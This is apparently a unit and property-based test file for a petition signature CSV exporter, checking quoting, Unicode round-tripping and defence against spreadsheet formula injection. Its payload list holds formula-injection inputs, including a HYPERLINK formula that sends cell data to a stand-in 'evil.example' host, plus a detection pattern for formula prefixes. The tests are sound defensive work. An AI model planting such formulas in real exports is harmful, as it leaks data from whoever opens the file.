import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { csv } from '../../../server/archive/csv.ts';
import type { ExportedSignature } from '../../../server/archive/exported-signature.ts';

const ANA: ExportedSignature = {
  givenName: 'Ana',
  familyName: null,
  email: 'ana@example.org',
  postalCode: null,
  country: null,
  comment: null,
  display: false,
  contact: true,
  partnerContact: false,
  consentVersion: '0123456789ab',
  consentLang: 'en',
  partner: null,
  signedOn: '2026-01-01',
};

/** Rows and cells as spreadsheet programs part them: quotes count where a cell begins with one. */
function cells(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  let fresh = true;
  for (let at = 0; at < text.length; at++) {
    const character = text[at]!;
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else quoted = false;
    } else if (fresh && character === '"') {
      quoted = true;
      fresh = false;
    } else if (character === separator || character === '\n') {
      rows.at(-1)!.push(cell);
      if (character === '\n') rows.push([]);
      cell = '';
      fresh = true;
    } else if (character !== '\r') {
      cell += character;
      fresh = false;
    }
  }
  return rows.slice(0, -1);
}

const lineWith = (comment: string) => csv.line({ ...ANA, comment });
const commentOf = (line: string) => cells(line, ',')[0]![5]!;
const FORMULA = /^[\s\p{C}]*[=+\-@＝＋－＠]/u;

describe('CSV', () => {
  it('begins with what makes Excel read UTF-8, and with the names of the columns', () => {
    assert.equal(
      csv.head,
      '\ufeff"givenName","familyName","email","postalCode","country","comment","display","contact",' +
        '"partnerContact","consentVersion","consentLang","partner","signedOn"\r\n',
    );
  });

  it('quotes all text, and leaves empty what was not given', () => {
    assert.equal(
      csv.line(ANA),
      '"Ana",,"ana@example.org",,,,false,true,false,"0123456789ab","en",,"2026-01-01"\r\n',
    );
  });

  it('brings names and comments through as they are', () => {
    for (const text of [
      "O'Brien",
      'Sting',
      'A',
      'Zoë\u0301 🌻',
      'محمد',
      'Anne-Marie',
      'a "quoted", word; and another',
      'two\nlines',
      'a@b.example',
      '1 + 1 = 2',
      '-'.padStart(2, 'x'),
    ]) {
      assert.equal(commentOf(lineWith(text)), text);
    }
  });

  it('keeps spreadsheets from running a cell', () => {
    for (const text of [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\rx',
      '\0=1',
      '＝1',
      '＋1',
      '－1',
      '＠x',
      '  =1',
      '\u00a0=1',
      '\u200b=1',
      '=HYPERLINK("https://evil.example/?"&A1)',
    ]) {
      const written = commentOf(lineWith(text));
      assert.match(written, /^\s*'/);
      assert.equal(written.replaceAll("'", ''), text);
    }
    assert.ok(csv.line({ ...ANA, givenName: '=1' }).startsWith(`"'=1"`));
    assert.ok(csv.line({ ...ANA, email: '+a@example.org' }).includes(`"'+a@example.org"`));
    // Whoever can write to the database can write this.
    assert.ok(csv.line({ ...ANA, partner: '=1' }).includes(`"'=1"`));
    assert.ok(csv.line({ ...ANA, givenName: ['=1'] as never }).startsWith(`"'=1"`));
  });

  it('keeps them from it too where they part cells at semicolons or tabs', () => {
    const text = fc
      .array(
        fc.constantFrom('=1', '-', '＝', '"', '""', ';', ',', '\n', '\t', ' ', 'x', "'", '\u200b', '@'),
        {
          maxLength: 12,
        },
      )
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(text, text, fc.constantFrom(',', ';', '\t'), (comment, givenName, separator) => {
        const line = csv.line({ ...ANA, givenName, comment });
        for (const cell of cells(line, separator).flat()) assert.doesNotMatch(cell, FORMULA);
      }),
      { numRuns: 5_000 },
    );
  });

  it('is one row a signature, whatever is in it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.string(), (givenName, comment) => {
        const rows = cells(csv.line({ ...ANA, givenName, comment }), ',');
        assert.deepEqual([rows.length, rows[0]!.length], [1, 13]);
      }),
    );
  });
});
